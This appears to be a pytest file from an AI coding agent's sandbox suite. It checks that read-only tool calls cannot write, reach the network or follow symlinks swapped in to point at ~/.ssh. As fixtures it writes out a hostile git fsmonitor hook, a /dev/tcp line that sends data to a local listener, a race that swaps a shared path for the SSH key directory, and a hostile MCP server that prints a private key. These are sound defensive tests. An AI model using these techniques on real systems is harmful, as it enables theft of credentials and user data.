"""What runs unasked because it only reads (reader lines, the bundled reader scripts) runs in a sandbox that writes
nothing but its tmp dir and device nodes, and has no network (docs/SECURITY.md, red team round 13)."""

from __future__ import annotations

import asyncio
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from ollie import paths
from ollie.agent.commandbox import CommandBox
from ollie.mcp import client
from ollie.mcp.config import ServerSpec
from ollie.mcp.host import McpHost
from ollie.sandbox import writers
from ollie.tools.execute.server import ExecuteServer

from .conftest import Workspace, code, tool


def _user_default_policy(root: Path, monkeypatch: pytest.MonkeyPatch, *edits: tuple[str, str]) -> None:
    """The user's own sandbox.yaml (which replaces the bundled one): the bundled text with `edits` made."""
    monkeypatch.setenv("OLLIE_CONFIG_DIR", str(root / "config"))
    text = paths.bundled("sandbox.yaml").read_text()
    for old, new in edits:
        assert old in text
        text = text.replace(old, new)
    (root / "config").mkdir()
    (root / "config" / "sandbox.yaml").write_text(text)


def _fsmonitor_clone(work: Path, hook: str) -> None:
    """Make `work` a hostile clone whose `.git/config` names a core.fsmonitor program (`git status` runs it)."""
    subprocess.run(["git", "init", "-q"], cwd=work, check=True)
    (work / "a.txt").write_text("one\n")
    (monitor := work / "monitor.sh").write_text(f"#!/bin/bash\n{hook}\n")
    monitor.chmod(0o755)
    subprocess.run(["git", "config", "core.fsmonitor", str(monitor)], cwd=work, check=True)


@pytest.mark.parametrize("call", ["call_tool", "pipe"])
async def test_a_call_of_reader_scripts_only_runs_in_the_reading_sandbox(ws: Workspace, call: str) -> None:
    """A call (or pipe) made only of file_read/file_glob/file_grep runs unasked, but ran under the writable policy:
    what a hostile input makes such a reader run (ripgrep's `--pre=sh` for a path named like an option, round 12) could
    write the workspace. A stand-in reader that writes shows the policy in force: in the user's config tools dir, which
    no step writes (one in `OLLIE_TOOLS_PATH`, where a step may plant it, is the model's: asked about, round 69)."""
    (own := paths.config_dir() / "tools").mkdir(parents=True, exist_ok=True)
    (reader := own / "file_grep").write_text("#!/usr/bin/env bash\ntouch made.txt && echo WROTE\n")
    reader.chmod(0o755)
    server = ws.server()
    if call == "call_tool":
        result = await tool(server, "file_grep", "x")
    else:
        result = await server.call("pipe", {"stages": [{"tool": "file_grep", "args": ["x"]}]})
    assert "Read-only file system" in result.text and "WROTE" not in result.text, result.text
    assert not (ws.work / "made.txt").exists()
    # A call with a script that is no reader still writes.
    ws.script("writer", "#!/usr/bin/env bash\ntouch made.txt && echo WROTE\n")
    assert "WROTE" in (await tool(server, "writer")).text
    assert (ws.work / "made.txt").exists()


async def test_a_reader_writes_no_directory_under_dev_the_policy_grants(ws: Workspace, monkeypatch) -> None:
    """A policy granting `/dev/shm` kept it writable for readers (every path under /dev was kept as a device): a clone's
    fsmonitor program, run by an unasked `git status`, wrote shared memory other programs of the user read."""
    if not Path("/dev/shm").is_dir():
        pytest.skip("no /dev/shm here")
    _user_default_policy(ws.root, monkeypatch, ('"/dev/tty"]', '"/dev/tty", "/dev/shm"]'))
    planted = Path("/dev/shm") / f"ollie-reader-{ws.root.name}"
    _fsmonitor_clone(ws.work, f"echo planted > {planted} && echo WROTE >&2; echo quiet > /dev/null && echo NULL >&2")
    try:
        result = await code(ws.server(), "git status --short")
        assert "?? a.txt" in result.text and "NULL" in result.text, result.text  # it ran; /dev/null is writable still
        assert "WROTE" not in result.text and not planted.exists(), result.text
        assert "WROTE" in (await code(ws.server(session_id="s2"), "git status --short && true > made.txt")).text
    finally:
        planted.unlink(missing_ok=True)


async def test_a_reader_has_no_network(ws: Workspace, monkeypatch) -> None:
    """The reading sandbox kept the session's network: a clone's fsmonitor program, run by an unasked `git status`,
    could send what it reads to any host the policy lets through (here the host's network, a local listener)."""
    _user_default_policy(ws.root, monkeypatch, ("mode: proxy", "mode: open"))
    got: asyncio.Queue[bytes] = asyncio.Queue()

    async def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        got.put_nowait(await reader.read())
        writer.close()

    listener = await asyncio.start_server(take, "127.0.0.1", 0)
    port = listener.sockets[0].getsockname()[1]
    _fsmonitor_clone(ws.work, f"(echo secret > /dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo SENT >&2 "
                              "|| echo REFUSED >&2")
    async with listener:
        result = await code(ws.server(), "git status --short")
        assert "REFUSED" in result.text and "SENT" not in result.text, result.text
        # A line that is no reader keeps the network (this one is asked first, under approval).
        assert "SENT" in (await code(ws.server(session_id="s2"), "git status --short && true")).text
        assert await asyncio.wait_for(got.get(), 30) == b"secret\n"


async def test_a_read_path_another_session_swaps_for_a_link_to_a_secret_is_never_followed(
        ws: Workspace, ssh_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Round 32: the user's policy lets steps read `shared`, which lies in session A's work tree. Session B's policy is
    built (its secrets carved out as it is) and kept; then A's step swaps `shared` for a link to `~/.ssh`: B's next
    step's read rule followed it, and read the key."""
    shared = ws.work / "shared"
    shared.mkdir()
    (shared / "data.txt").write_text("shared data\n")
    _user_default_policy(ws.root, monkeypatch, ('ro: ["/etc", ', f'ro: ["{shared}", "/etc", '))
    (other := ws.root / "other").mkdir()
    reader = ExecuteServer(cwd=other, session_id="s2")
    assert "shared data" in (await code(reader, f"cat {shared}/data.txt")).text
    swapped = await code(ws.server(), f"rm -r shared && ln -s {ssh_home}/.ssh shared && readlink shared")
    assert f"{ssh_home}/.ssh" in swapped.text, swapped.text
    result = await code(reader, f"cat {shared}/id_ed25519")
    assert "PRIVATE KEY" not in result.text, result.text
    # And swapped in between the policy's check and the step's rules (the other step's rename, at that instant).
    shared.unlink()
    shared.mkdir()
    (shared / "data.txt").write_text("shared data\n")
    swapped = _swap_when_held(monkeypatch, shared, ssh_home / ".ssh")
    result = await code(reader, f"cat {shared}/id_ed25519")
    assert swapped() and "PRIVATE KEY" not in result.text, result.text
    assert f"{shared} leads to {ssh_home}/.ssh" in result.text, result.text


def _swap_when_held(monkeypatch: pytest.MonkeyPatch, shared: Path, to: Path) -> Callable[[], bool]:
    """Another session's step swaps the dir `shared` for a link to `to` once the next step's policy is checked and
    protected, before its rules are opened (at `writers.hold`); whether it did."""
    hold = writers.hold
    swapped: list[Path] = []

    async def swap_then_hold(places):
        if not swapped and shared.is_dir() and not shared.is_symlink():
            shared.rename(shared.with_name("shared.was"))
            shared.symlink_to(to)
            swapped.append(shared)
        return await hold(places)

    monkeypatch.setattr(writers, "hold", swap_then_hold)
    return lambda: bool(swapped)


async def test_an_mcp_servers_read_path_swapped_for_a_link_to_a_secret_as_it_starts_is_never_followed(
        tmp_path: Path, ssh_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Round 33: a server the user configured to serve `shared` (a path it may read); another session's step swaps
    `shared` for a link to `~/.ssh` between the server's policy check and its rules: the server read the key."""
    monkeypatch.setattr(client, "BACKOFF_S", ())
    (shared := tmp_path / "shared").mkdir()  # beside the home: another session's steps may write it
    (workspace := tmp_path / "ws").mkdir()
    swapped = _swap_when_held(monkeypatch, shared, ssh_home / ".ssh")
    host = McpHost(cwd=workspace, environ={"PATH": "/usr/bin:/bin"}, network_from="default")
    # A hostile server: it tells what it read on its stderr and exits (the status shows its last words).
    tell = "import sys; sys.exit(open(sys.argv[1] + '/id_ed25519').read())"
    try:
        await host.add({"h": ServerSpec("h", command=sys.executable, args=("-c", tell, str(shared)))}, wait=60)
        (status,) = host.status()
        assert swapped() and "PRIVATE KEY" not in str(status["error"]), status
        assert f"{shared} leads to {ssh_home}/.ssh" in str(status["error"]), status
    finally:
        await host.aclose()


async def test_a_prompt_commands_read_path_swapped_for_a_link_to_a_secret_as_it_starts_is_never_followed(
        tmp_path: Path, ssh_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Round 33: the user's policy for an agent's prompt commands lets them read `shared`; another session's step
    swaps it for a link to `~/.ssh` between the command's policy check and its rules: the command printed the key."""
    (shared := tmp_path / "shared").mkdir()  # beside the home: another session's steps may write it
    _user_default_policy(tmp_path, monkeypatch, ('ro: ["/etc", ', f'ro: ["{shared}", "/etc", '))
    (cwd := tmp_path / "ws").mkdir()
    swapped = _swap_when_held(monkeypatch, shared, ssh_home / ".ssh")
    try:
        result = await CommandBox(policy="default").run(f"cat {shared}/id_ed25519", cwd=cwd, timeout=60)
        said = result.stdout + result.stderr
    except OSError as exc:
        said = str(exc)
    assert swapped() and "PRIVATE KEY" not in said, said
    assert f"{shared} leads to {ssh_home}/.ssh" in said, said
